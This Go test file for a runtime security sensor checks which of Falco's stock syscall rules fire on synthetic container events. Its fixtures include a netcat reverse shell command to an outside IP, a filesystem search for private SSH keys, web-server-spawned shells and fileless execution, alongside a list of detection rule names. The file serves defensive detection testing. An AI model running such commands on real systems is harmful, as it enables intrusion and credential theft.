package differential

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/parallax-sec/parallax/event"
	"github.com/parallax-sec/parallax/ingest/kernel"
	"github.com/parallax-sec/parallax/ingest/kernel/kerneltest"
	"github.com/parallax-sec/parallax/rules"
)

// The rules of Falco's falco_rules.yaml, falco-incubating_rules.yaml and falco-sandbox_rules.yaml that are enabled there and ask only for
// what the sensor traces. All others are blind, and say why.
var seeing = []string{
	"Run shell untrusted", "System user interactive", "Terminal shell in container", "Netcat Remote Code Execution in Container",
	"Search Private Keys or Passwords", "Remove Bulk Data from Disk", "Debugfs Launched in Privileged Container", "PTRACE attached to process",
	"Find AWS Credentials", "Execution from /dev/shm", "Drop and execute new binary in container", "Fileless execution via memfd_create",
	"DB program spawned process", "Change thread namespace", "Change namespace privileges via unshare", "Launch Privileged Container",
	"Launch Excessively Capable Container", "Non sudo setuid", "User mgmt binaries", "Launch Package Management Process in Container",
	"Launch Suspicious Network Tool in Container", "Launch Suspicious Network Tool on Host", "Launch Remote File Copy Tools in Container",
	"Mount Launched in Privileged Container", "Launch Ingress Remote File Copy Tools in Container", "Launch Disallowed Container",
	"Detect crypto miners using the Stratum protocol", "Kubernetes Client Tool Launched in Container", "Sudo Potential Privilege Escalation",
	"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Decoding Payload in Container", "Basic Interactive Reconnaissance",
	"Netcat/Socat Remote Code Execution on Host", "Network Tool Executed During NPM Package Install", "Known Cryptominer Process Executed",
	"Web Server Spawned Shell", "Web Server Spawned Suspicious Child Process", "Reverse Shell from Web Server",
}

func stockSyscallRules(t *testing.T) *rules.Set {
	t.Helper()
	data := os.Getenv("PARALLAX_TEST_DATA")
	if data == "" {
		t.Skip("PARALLAX_TEST_DATA is not set: it names the folder with Falco's rule files")
	}
	var files []rules.File
	for _, name := range []string{"falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"} {
		b, err := os.ReadFile(filepath.Join(data, "falco/stock", name))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, rules.File{Name: name, Data: b})
	}
	set, found := rules.Load(rules.Env{Fields: kernel.Fields()}, files)
	if found.HasErrors() {
		t.Fatal(found)
	}
	return set
}

func TestStockSyscallRulesAreBlindOnlyWhereNothingIsTraced(t *testing.T) {
	var got []string
	for _, r := range stockSyscallRules(t).Rules() {
		if r.Enabled && r.Blind == "" {
			got = append(got, r.Name)
		}
	}
	if diff := cmp.Diff(seeing, got); diff != "" {
		t.Errorf("rules that are not blind (-want +got):\n%s", diff)
	}
}

// TestStockSyscallRulesMatch runs small attacks, and their harmless twins, by Falco's rules as they stand.
func TestStockSyscallRulesMatch(t *testing.T) {
	set := stockSyscallRules(t)
	f := func(name, lines string, want ...string) {
		t.Helper()
		if diff := cmp.Diff(want, matched(t, set, lines)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	const web = `{"container":{"name":"web","pod":"web-1","namespace":"shop","image":"reg.io/shop/web:1.2","privileged":false}}
{"users":{"container":"web","users":{"33":"www-data","1000":"app"}}}
{"exec":{"pid":100,"container":"web","exe":"/usr/sbin/nginx","argv":["nginx"],"uid":33,"caps":"none"}}
`
	f("nothing", web)
	f("a shell by kubectl exec", web+`{"exec":{"pid":200,"container":"web","exe":"/bin/bash","argv":["bash"],"tty":"pts/0"}}`, "Terminal shell in container")
	f("a shell without a terminal", web+`{"exec":{"pid":200,"container":"web","exe":"/bin/bash","argv":["bash"]}}`)
	f("a shell of the web server", web+`{"exec":{"pid":201,"parent":100,"exe":"/bin/sh","argv":["sh","-c","id"]}}`,
		"Run shell untrusted", "Web Server Spawned Shell")
	f("any ancestor", web+`{"exec":{"pid":201,"parent":100,"exe":"/usr/bin/perl","argv":["perl","x.pl"]}}
{"exec":{"pid":202,"parent":201,"exe":"/bin/sh","argv":["sh"]}}`, "Web Server Spawned Suspicious Child Process", "Run shell untrusted", "Web Server Spawned Shell")
	f("dropped", web+`{"exec":{"pid":201,"parent":100,"exe":"/tmp/x","argv":["x"],"origin":"upper"}}`, "Drop and execute new binary in container")
	f("in memory", web+`{"exec":{"pid":201,"parent":100,"exe":"memfd:x","argv":["x"],"origin":"memfd"}}`, "Fileless execution via memfd_create")
	f("from /dev/shm", web+`{"exec":{"pid":201,"parent":100,"exe":"/dev/shm/x","argv":["/dev/shm/x"],"origin":"volume"}}`, "Execution from /dev/shm")
	f("netcat", web+`{"exec":{"pid":201,"parent":100,"exe":"/bin/nc","argv":["nc","-e","/bin/sh","192.0.2.1","4444"]}}`,
		"Netcat Remote Code Execution in Container", "Launch Suspicious Network Tool in Container",
		"Web Server Spawned Suspicious Child Process", "Reverse Shell from Web Server")
	f("keys", web+`{"exec":{"pid":201,"parent":100,"exe":"/usr/bin/find","argv":["find","/","-name","id_rsa"]}}`, "Search Private Keys or Passwords")
	f("setuid to another", web+`{"setuid":{"pid":100,"args":[1000]}}`, "Non sudo setuid")
	f("setuid to itself", web+`{"setuid":{"pid":100,"args":[33]}}`)
	f("setuid by root", web+`{"setuid":{"pid":100,"uid":0,"args":[0]}}`)
	f("unshare", web+`{"unshare":{"pid":100,"flags":"CLONE_NEWUSER"}}`, "Change namespace privileges via unshare")
	f("setns", web+`{"setns":{"pid":100,"flags":"CLONE_NEWNS","to":"host"}}`, "Change thread namespace")
	f("ptrace", web+`{"exec":{"pid":201,"parent":100,"exe":"/opt/x","argv":["x"]}}
{"ptrace":{"pid":201,"target":100,"request":"PTRACE_ATTACH"}}`, "PTRACE attached to process")
	const privileged = `{"container":{"name":"web","pod":"web-1","namespace":"shop","image":"reg.io/shop/web:1.2","privileged":true}}
{"exec":{"pid":100,"container":"web","exe":"/bin/app","argv":["app"],"caps":"all"}}
`
	f("privileged", privileged, "Launch Privileged Container", "Launch Excessively Capable Container")
	f("mount", privileged+`{"exec":{"pid":101,"parent":100,"exe":"/bin/mount","argv":["mount","/dev/sda1","/mnt"]}}`,
		"Launch Privileged Container", "Launch Excessively Capable Container", "Mount Launched in Privileged Container")
}

// matched are the names of the rules that match events of a stream, in the order of the events.
func matched(t *testing.T, set *rules.Set, lines string) (names []string) {
	t.Helper()
	batches, err := kerneltest.Read([]byte(lines))
	if err != nil {
		t.Fatal(err)
	}
	decoder, judge := kernel.NewDecoder(), set.NewJudge(rules.MatchAll)
	for i := range batches {
		decoder.Decode(&batches[i], func(e event.Event) {
			for _, m := range judge.Judge(e, nil) {
				if r := set.Rules()[m.Rule.Order]; r.Enabled && !slices.Contains(names, r.Name) {
					names = append(names, r.Name)
				}
			}
		}, func(f event.Fault) { t.Error(f) })
	}
	return names
}
